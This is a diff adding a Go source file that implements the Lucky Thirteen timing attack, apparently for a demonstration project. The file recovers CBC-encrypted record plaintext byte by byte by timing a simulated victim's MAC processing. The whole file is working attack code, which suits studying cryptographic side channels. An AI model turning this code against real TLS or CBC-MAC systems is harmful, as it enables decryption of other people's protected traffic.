@@ -0,0 +1,235 @@
+//
+// SPDX-FileCopyrightText: Copyright 2026 Frank Schwab
+//
+// SPDX-License-Identifier: Apache-2.0
+//
+// SPDX-FileType: SOURCE
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// You may not use this file except in compliance with the License.
+//
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// Author: Frank Schwab
+//
+// Version: 1.2.0
+//
+// Change history:
+//    2026-10-18: V1.0.0: Created.
+//    2026-10-18: V1.1.0: Use the library packages.
+//    2026-10-18: V1.2.0: Take the random records from the random source.
+//
+
+// This file contains the cracker functions that perform a "Lucky Thirteen" attack
+// on records that are processed by a [Lucky13Victim].
+//
+// The victim never tells whether the padding was valid.
+// The attacker only sees the time the victim needs to process a record.
+// A record with 4 encrypted blocks needs one call of the compression function less,
+// if it ends with a valid padding of at least 2 bytes.
+// So the attacker places the block to crack at the end of such a record, manipulates the block before it
+// and classifies the observed times with a [oracle.TimingClassifier] that is calibrated beforehand.
+
+package main
+
+import (
+	"padora/oracle"
+	"padora/randomsource"
+	"time"
+)
+
+// ******** Private types ********
+
+// lucky13Oracle is a timing oracle that checks whether a record has a valid padding of at least 2 bytes.
+type lucky13Oracle struct {
+	victim     *Lucky13Victim
+	classifier *oracle.TimingClassifier
+	count      int
+}
+
+// ******** Private constants ********
+
+// lucky13RecordBlocks is the number of encrypted blocks of the records that are sent to the victim.
+// With 4 AES blocks, i.e. 64 bytes, the MAC is calculated over 13 + 44 = 57 bytes if the padding is invalid,
+// and over at most 13 + 42 = 55 bytes, if the padding is valid and at least 2 bytes long.
+// With the 9 bytes of the SHA-1 padding the first needs one block more than the second.
+const lucky13RecordBlocks = 4
+
+// lucky13CalibrationCount is the number of measurements for each reference class.
+const lucky13CalibrationCount = 1_000
+
+// lucky13SampleCount is the number of measurements that are taken for each guess.
+const lucky13SampleCount = 5
+
+// lucky13ConfirmationCount is the number of additional measurements that are taken,
+// if a guess seems to be correct.
+const lucky13ConfirmationCount = 31
+
+// lucky13MaxRounds is the maximum number of rounds the search for a value is repeated,
+// if the timing noise made it fail.
+const lucky13MaxRounds = 3
+
+// ******** Public functions ********
+
+// CrackLucky13 cracks an encrypted record only from the time the victim needs to process it.
+// It returns the data of the record without MAC and padding and the number of records sent to the victim.
+func CrackLucky13(victim *Lucky13Victim, encryptedRecord []byte, blockSize int) ([]byte, int) {
+	timingOracle := &lucky13Oracle{victim: victim}
+	timingOracle.calibrate(blockSize)
+
+	clearRecord := make([]byte, len(encryptedRecord)-blockSize)
+
+	for start := len(encryptedRecord) - blockSize; start >= blockSize; start -= blockSize {
+		intermediate := timingOracle.crackIntermediate(encryptedRecord[start:start+blockSize], blockSize)
+
+		// The plain text is the intermediate value XOR-ed with the previous encrypted block.
+		previousBlock := encryptedRecord[start-blockSize : start]
+		for i := 0; i < blockSize; i++ {
+			clearRecord[start-blockSize+i] = intermediate[i] ^ previousBlock[i]
+		}
+	}
+
+	// Remove padding and MAC. The padding is not checked, as the record is known to be valid.
+	paddingLength := int(clearRecord[len(clearRecord)-1])
+	dataLength := max(len(clearRecord)-paddingLength-1-RecordMacSize, 0)
+
+	return clearRecord[:dataLength], timingOracle.count
+}
+
+// ******** Private functions ********
+
+// calibrate measures the times of records that are known to be fast or slow and creates the classifier.
+// Records with one block less than [lucky13RecordBlocks] need as few compression function calls
+// as records with a valid padding, random records with [lucky13RecordBlocks] blocks have an invalid padding
+// nearly always.
+func (o *lucky13Oracle) calibrate(blockSize int) {
+	fastRecord := make([]byte, lucky13RecordBlocks*blockSize)
+	slowRecord := make([]byte, (lucky13RecordBlocks+1)*blockSize)
+
+	fastSamples := make([]time.Duration, 0, lucky13CalibrationCount)
+	slowSamples := make([]time.Duration, 0, lucky13CalibrationCount)
+	for i := 0; i < lucky13CalibrationCount; i++ {
+		randomsource.Bytes(fastRecord)
+		fastSamples = append(fastSamples, o.measure(fastRecord))
+
+		randomsource.Bytes(slowRecord)
+		slowSamples = append(slowSamples, o.measure(slowRecord))
+	}
+
+	o.classifier = oracle.NewTimingClassifier(fastSamples, slowSamples)
+}
+
+// crackIntermediate cracks the intermediate value of an encrypted block, i.e. the decrypted block
+// before it is XOR-ed with the previous block.
+func (o *lucky13Oracle) crackIntermediate(encryptedBlock []byte, blockSize int) []byte {
+	intermediate := make([]byte, blockSize)
+
+	// The record consists of a random initialization vector, random blocks,
+	// the manipulated block and the block to crack.
+	record := make([]byte, (lucky13RecordBlocks+1)*blockSize)
+	randomsource.Bytes(record)
+	manipulatedStart := (lucky13RecordBlocks - 1) * blockSize
+	manipulatedBlock := record[manipulatedStart : manipulatedStart+blockSize]
+	copy(record[manipulatedStart+blockSize:], encryptedBlock)
+
+	// 1. Find the last two bytes. They have to be guessed together, as only a padding of at least
+	//    2 bytes leads to a time difference.
+	o.guessLastTwoBytes(record, manipulatedBlock, intermediate, blockSize)
+
+	// 2. Find the other bytes one by one, like in the padding oracle attack.
+	for pos := blockSize - 3; pos >= 0; pos-- {
+		paddingValue := byte(blockSize - 1 - pos)
+		for preparePos := pos + 1; preparePos < blockSize; preparePos++ {
+			manipulatedBlock[preparePos] = intermediate[preparePos] ^ paddingValue
+		}
+
+		o.guessByte(record, manipulatedBlock, intermediate, pos, paddingValue)
+	}
+
+	return intermediate
+}
+
+// guessLastTwoBytes finds the two last bytes of the intermediate value.
+func (o *lucky13Oracle) guessLastTwoBytes(
+	record []byte,
+	manipulatedBlock []byte,
+	intermediate []byte,
+	blockSize int) {
+	lastPos := blockSize - 1
+	for round := 0; round < lucky13MaxRounds; round++ {
+		for guess := 0; guess < 0x1_0000; guess++ {
+			manipulatedBlock[lastPos-1] = byte(guess >> 8)
+			manipulatedBlock[lastPos] = byte(guess)
+
+			if !o.isFast(record) {
+				continue
+			}
+
+			// The record may also end with a longer padding, e.g. 02 02 02.
+			// Disturb the byte before the two bytes to check, if the match still holds.
+			manipulatedBlock[lastPos-2] ^= 0xff
+			isStillFast := o.isFast(record)
+			manipulatedBlock[lastPos-2] ^= 0xff
+			if isStillFast {
+				// The last two bytes are decrypted to 01 01.
+				intermediate[lastPos-1] = manipulatedBlock[lastPos-1] ^ 1
+				intermediate[lastPos] = manipulatedBlock[lastPos] ^ 1
+				return
+			}
+		}
+	}
+}
+
+// guessByte finds the byte of the intermediate value at position [pos].
+func (o *lucky13Oracle) guessByte(
+	record []byte,
+	manipulatedBlock []byte,
+	intermediate []byte,
+	pos int,
+	paddingValue byte) {
+	for round := 0; round < lucky13MaxRounds; round++ {
+		for guess := 0; guess < 256; guess++ {
+			manipulatedBlock[pos] = byte(guess)
+
+			if o.isFast(record) {
+				intermediate[pos] = byte(guess) ^ paddingValue
+				return
+			}
+		}
+	}
+}
+
+// isFast checks whether the victim processes a record fast, i.e. if it has a valid padding.
+// If the first measurements indicate this, more measurements are made to confirm it.
+func (o *lucky13Oracle) isFast(record []byte) bool {
+	samples := make([]time.Duration, 0, lucky13SampleCount+lucky13ConfirmationCount)
+	for i := 0; i < lucky13SampleCount; i++ {
+		samples = append(samples, o.measure(record))
+	}
+
+	if !o.classifier.IsFast(samples) {
+		return false
+	}
+
+	for i := 0; i < lucky13ConfirmationCount; i++ {
+		samples = append(samples, o.measure(record))
+	}
+
+	return o.classifier.IsFast(samples)
+}
+
+// measure sends a record to the victim and returns the observed time.
+func (o *lucky13Oracle) measure(record []byte) time.Duration {
+	o.count++
+	elapsedTime, _ := o.victim.ProcessRecord(record)
+
+	return elapsedTime
+}